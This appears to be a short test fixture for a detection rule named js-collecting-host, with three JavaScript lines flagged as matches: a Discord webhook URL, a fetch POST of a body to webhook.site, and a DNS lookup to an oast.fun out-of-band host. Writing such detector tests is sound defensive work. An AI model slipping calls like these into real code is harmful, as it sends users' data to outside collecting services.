// ruleid: js-collecting-host
const hook = "https://discord.com/api/webhooks/123456789/abcdef";
// ruleid: js-collecting-host
fetch("https://webhook.site/11111111-2222", { method: "POST", body });
// ruleid: js-collecting-host
dns.lookup("a.b.oast.fun", () => {});
